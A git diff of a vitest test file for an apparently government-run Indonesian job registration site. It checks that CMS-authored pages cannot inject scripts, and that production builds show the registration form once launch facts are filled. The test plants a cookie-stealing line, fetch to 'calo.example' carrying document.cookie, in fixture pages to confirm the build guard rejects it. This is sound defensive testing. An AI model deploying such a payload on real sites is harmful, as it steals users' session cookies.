@@ -6,12 +6,15 @@ import { promisify } from 'node:util';
 
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
+import { t } from '../../src/i18n';
 import { ownScriptHashes, sha256Source } from '../../src/server/own-scripts';
-import { copyProject } from '../../tools/project-copy';
+import { fillLaunchFacts } from '../../tools/launch-facts';
+import { fixtureProjectCopy } from '../support/fixture-content';
 
 // A CMS account (Git Gateway lets an editor write any path under content/) must never add code to the
 // official site. Tried on a copy of the project: an .mdx page with a script, a Markdown page with a
 // raw <script>, and — the build's own guard — a page of src/ that inlines a script that is not ours.
+// Then production builds of the same copy (the tests' content): launch facts empty, then filled.
 
 const run = promisify(execFile);
 const SCRIPT = 'fetch("https://calo.example/?c="+document.cookie)';
@@ -19,7 +22,7 @@ const frontmatter = (title: string) => `---\ntitle: ${title}\ndescription: Uji c
 let project: string;
 
 beforeAll(async () => {
-  project = await copyProject('content-code-');
+  project = await fixtureProjectCopy('content-code-', 'empty');
   await writeFile(join(project, 'content/pages/id/kode-mdx.mdx'), `${frontmatter('kode-mdx')}\n<script>${SCRIPT}</script>\n`);
   await writeFile(join(project, 'content/pages/id/kode-md.md'), `${frontmatter('kode-md')}\nTeks biasa.\n\n<script>${SCRIPT}</script>\n`);
 }, 60_000);
@@ -71,7 +74,7 @@ describe('content cannot add code', () => {
     expect(result.out).toContain('calo.example');
   }, 180_000);
 
-  it('a production build with a localhost address fails; with the real address, today’s content gives the "opens soon" form page', async () => {
+  it('a production build with a localhost address fails; with the real address and the launch facts empty, the form page says "opens soon"; filled, it is the form', async () => {
     await rm(join(project, 'src/pages/uji-skrip.astro'), { force: true });
     await rm(join(project, 'content/pages/id/kode-mdx.mdx'), { force: true });
     const production = (url?: string) =>
@@ -87,8 +90,15 @@ describe('content cannot add code', () => {
     expect(local.out).toContain('Production build with site address http://localhost');
     expect((await production('https://kerja-luar-negeri.contoh.go.id')).code).toBe(0);
     const form = await readFile(join(project, 'dist/daftar/index.html'), 'utf8');
-    expect(form).toContain('Pendaftaran segera dibuka');
+    expect(form).toContain(t('id', 'reg.soon.title'));
     expect(form).not.toContain('name="nik"');
     expect(form).toContain('<meta property="og:image" content="https://kerja-luar-negeri.contoh.go.id/share-card.png"');
-  }, 240_000);
+
+    // Launch day: the city fills the facts in the CMS, and the next production build shows the form.
+    await fillLaunchFacts(join(project, 'content'));
+    expect((await production('https://kerja-luar-negeri.contoh.go.id')).code).toBe(0);
+    const open = await readFile(join(project, 'dist/daftar/index.html'), 'utf8');
+    expect(open).not.toContain(t('id', 'reg.soon.title'));
+    expect(open).toContain('name="nik"');
+  }, 360_000);
 });
